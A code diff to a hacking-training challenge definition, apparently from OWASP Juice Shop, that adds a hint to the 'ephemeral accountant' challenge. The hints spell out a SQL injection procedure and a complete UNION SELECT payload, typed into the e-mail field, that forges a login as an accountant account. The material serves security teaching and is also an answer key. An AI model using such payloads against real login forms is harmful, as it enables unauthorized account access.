@@ -18,6 +18,7 @@ export const ephemeralAccountantChallenge = challenge({
     'Whoever the login query returns is signed in. It need not return something that is stored.',
     'A UNION adds rows to a result, and a row can be made of plain values. You need to know how many columns a user has, and in which order.',
     "The challenge Database Schema shows you the columns of Users. The row must carry the accountant's address, the role accounting, no TOTP secret, and the id of an existing user.",
+    "Start small: as e-mail, ' UNION SELECT 1,2,3-- draws an error about the number of columns. Add numbers until that error is gone: there are 13. Then replace one number after the other by the value that its column needs.",
     "E-mail, with any password: ' UNION SELECT * FROM (SELECT 15 as 'id', '' as 'username', 'acc0unt4nt@juice-sh.op' as 'email', '12345' as 'password', 'accounting' as 'role', '123' as 'deluxeToken', '1.2.3.4' as 'lastLoginIp', '/assets/public/images/uploads/default.svg' as 'profileImage', '' as 'totpSecret', 1 as 'isActive', '1999-08-16 14:14:41.644 +00:00' as 'createdAt', '1999-08-16 14:33:41.930 +00:00' as 'updatedAt', null as 'deletedAt')--",
   ],
   solvedBy: on('account.loggedIn', ({ account }, { store, config }) => isEphemeralAccountant(account, store, config)),
